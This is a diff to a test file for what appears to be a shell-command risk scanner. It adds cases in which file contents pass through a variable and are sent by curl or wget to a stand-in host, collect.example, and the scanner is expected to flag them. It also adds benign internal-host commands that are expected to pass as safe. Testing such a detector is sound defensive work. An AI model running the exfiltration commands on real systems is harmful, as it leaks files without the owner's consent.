@@ -31,3 +31,21 @@ it.each([
 ])("safe: %s", (command) => {
   expect(scan(command).risk).toBe("safe");
 });
+
+it.each([
+  'X=$(cat f); curl "http://collect.example/$X"',
+  'X=$(cat f); Y=$X; curl "http://collect.example/${Y}"',
+  'X=`cat f`; wget -qO- "http://collect.example/?q=${X:0:9}"',
+  'declare X=$(cat f); curl -H "X: $X" http://collect.example/',
+])("not safe, the output of a command goes out by way of a variable: %s", (command) => {
+  expect(scan(command).risk).not.toBe("safe");
+});
+
+it.each([
+  'H=$(hostname); curl "http://metrics.internal/$H"',
+  'h=$(kubectl get svc api -o name); curl "http://$h/health"',
+  'now=$(date +%s); curl "http://prom:9090/api/v1/query?time=$now"',
+  'X=1; curl "http://svc/$X"',
+])("safe: %s", (command) => {
+  expect(scan(command).risk).toBe("safe");
+});
